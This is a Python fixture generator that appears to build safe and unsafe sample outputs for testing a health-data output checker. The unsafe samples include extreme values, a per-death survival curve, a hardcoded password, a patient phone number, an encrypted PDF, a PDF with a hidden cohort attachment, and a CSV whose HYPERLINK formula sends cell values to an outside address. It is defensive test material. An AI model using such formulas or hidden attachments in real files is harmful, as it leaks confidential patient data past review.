"""From the analysts' desks: console tables, scripts, follow-up lists, links, locked and attached files."""

import pypdf

from tests.airlock.outputs16 import kit
from tests.airlock.outputs16.kit import large


def write(shelf) -> None:
    who = "9,412 adults operated on for cataract by phacoemulsification, first eye"
    start = [("md", "# Axial length and refraction"), ("code", "df.shape", "(9412, 6)\n")]
    full = "       axial_mm       iol_d   age\ncount   9412.00     9412.00  9412.00\nmean      23.71       20.94    73.80\nstd        1.38        3.61     8.90\n"
    quart = "25%       22.88       19.50    68.00\n50%       23.52       21.50    74.00\n75%       24.27       23.00    80.00\n"
    kit.notebook(
        shelf.unsafe(
            "eye/axial.ipynb",
            "min and max of describe()",
            "output of cell 3, rows min and max",
            "Notebook on axial length",
            who,
        ),
        [
            *start,
            (
                "code",
                "df[['axial_mm', 'iol_d', 'age']].describe().round(2)",
                full + "min       19.84       -6.00    31.00\n" + quart + "max       34.12       36.50   102.00\n",
            ),
        ],
    )
    kit.notebook(
        shelf.safe("eye/axial_quartiles.ipynb", "quartiles of thousands", "Notebook on axial length", who),
        [*start, ("code", "df[['axial_mm', 'iol_d', 'age']].describe().drop(['min', 'max']).round(2)", full + quart)],
    )

    figure, ax = kit.axes(6, 4)
    rng = shelf.random("km")
    times, alive, at_risk = [0.0], [1.0], 46
    for t in sorted(rng.uniform(0.4, 35) for _ in range(21)):
        times.append(t)
        alive.append(alive[-1] * (1 - 1 / at_risk))
        at_risk -= 1
    ax.step([*times, 36], [*alive, alive[-1]], where="post", color="k")
    ax.set(ylim=(0, 1.02), xlabel="Mois", ylabel="Survie", title="Amylose TTR héréditaire (n = 46)")
    kit.drawn(
        figure,
        shelf.unsafe(
            "cardio/amylose_km.pdf",
            "chaque marche de la courbe est un décès",
            "courbe en escalier, 46 patients",
            "Survie dans l'amylose héréditaire",
            "46 adultes avec une amylose TTR héréditaire",
        ),
    )

    r = "library(DBI)\nlibrary(dplyr)\n\ncon <- dbConnect(RPostgres::Postgres(), dbname = 'eds', host = Sys.getenv('PGHOST'),\n                 user = 'psy_etude', password = {})\nvisites <- tbl(con, 'visit_occurrence') |> filter(visit_concept_id == 9201)\n\ntab <- visites |> count(care_site_id) |> collect() |> filter(n >= 10)\nwrite.csv(tab, 'sorties/sejours_par_site.csv', row.names = FALSE)\n"
    kit.text(
        shelf.safe(
            "psy/sejours.R",
            "concept 9201, seuil de 10",
            "Script R du comptage des séjours",
            "séjours de psychiatrie, 2019-2023",
        ),
        r.format("Sys.getenv('PGPASSWORD')"),
    )
    kit.text(
        shelf.unsafe(
            "psy/sejours_local.R",
            "mot de passe écrit dans le script",
            "argument password de dbConnect",
            "Script R du comptage des séjours",
            "séjours de psychiatrie, 2019-2023",
        ),
        r.format("'Vr7!kolp-Tz93wq'"),
    )

    plan = [
        ["Étape", "Responsable", "Contact", "Échéance"],
        ["Extraction", "DIM", "service", "T1 2025"],
        ["Contrôle qualité", "EDS", "service", "T2 2025"],
        ["Restitution", "Comité de pilotage", "service", "T3 2025"],
    ]
    suivi = [
        ["Cohorte", "Inclus", "Rappelés", "Perdus de vue"],
        ["AVC", *large(811, 702, 109)],
        ["Fracture du col", *large(644, 561, 83)],
        ["Amputation", *large(188, 151, 37)],
    ]
    kit.word(
        shelf.safe(
            "mpr/suivi.docx",
            "étapes, trimestres, 3 cohortes",
            "Suivi téléphonique à un an",
            "1 643 adultes sortis de rééducation",
        ),
        ["# Suivi à un an", suivi, plan],
    )
    kit.word(
        shelf.unsafe(
            "mpr/suivi_rappels.docx",
            "téléphone d'une patiente",
            "dernier paragraphe",
            "Suivi téléphonique à un an",
            "1 643 adultes sortis de rééducation",
        ),
        [
            "# Suivi à un an",
            suivi,
            plan,
            "À rappeler avant la clôture : patiente de la cohorte AVC, 06 39 98 41 27, après 18 h.",
        ],
    )

    cout = [
        ["libelle", "sejours", "cout_moyen", "lien"],
        ["Prothèse de hanche", 4210, 5871, "fiche 12"],
        ["Prothèse de genou", 3904, 6022, "fiche 13"],
        ["Cholécystectomie", 5122, 2644, "fiche 21"],
    ]
    kit.csv_file(
        shelf.safe(
            "eco/fiches.csv", "numéros de fiches", "Coûts et fiches descriptives", "16 542 séjours de chirurgie, 2023"
        ),
        cout,
        ";",
    )
    formule = [list(row) for row in cout]
    formule[3][3] = '=HYPERLINK("http://192.0.2.14/f?c="&B2&C3,"fiche 21")'
    kit.csv_file(
        shelf.unsafe(
            "eco/fiches_liens.csv",
            "déguisement : une formule envoie des cellules ailleurs à l'ouverture",
            "ligne 4, lien",
            "Coûts et fiches descriptives",
            "16 542 séjours de chirurgie, 2023",
        ),
        formule,
        ";",
    )

    path = shelf.unsafe(
        "qualite/annexe_protegee.pdf",
        "fichier chiffré, que nul ne peut relire",
        "tout le fichier",
        "Annexe des indicateurs de qualité",
        "42 310 séjours, 2024",
    )
    kit.pdf(path, ["# Annexe", [["Établissement", "Dossiers"], ["A", 1211], ["B", 804]]])
    writer = pypdf.PdfWriter(clone_from=path)
    writer.encrypt("annexe2024", algorithm="RC4-128")
    writer.write(path)
    kit.pdf(
        shelf.safe(
            "qualite/annexe.pdf",
            "le même contenu, lisible",
            "Annexe des indicateurs de qualité",
            "42 310 séjours, 2024",
        ),
        [
            "# Annexe",
            "Tirage au sort de dossiers par établissement ; 2 relecteurs par dossier.",
            [["Établissement", "Dossiers"], ["A", 1211], ["B", 804], ["C", 655]],
        ],
    )

    path = shelf.unsafe(
        "rare/atlas.pdf",
        "disguise: a file of rows attached to the PDF",
        "embedded file cohort.csv",
        "Atlas of the network",
        "3,344 people of the network",
    )
    blocks = [
        "# Atlas 2024",
        "Fourteen centres; the median distance to a centre was 61 km (IQR 24-118).",
        [
            ["Region group", "People"],
            *[[n, *large(v)] for n, v in (("North", 811), ("West", 702), ("East", 644), ("South", 1187))],
        ],
    ]
    kit.pdf(path, blocks, "Atlas")
    writer = pypdf.PdfWriter(clone_from=path)
    writer.add_attachment(
        "cohort.csv",
        "id,sex,birth_year,orpha,postcode\n"
        + "".join(
            f"R{i:03d},{'FM'[i % 2]},{1950 + 3 * i % 60},{(324, 355, 365)[i % 3]},{29000 + 170 * i}\n"
            for i in range(1, 41)
        ),
    )
    writer.write(path)
    kit.pdf(
        shelf.safe(
            "rare/atlas_web.pdf", "distances and region counts", "Atlas of the network", "3,344 people of the network"
        ),
        blocks,
        "Atlas",
    )
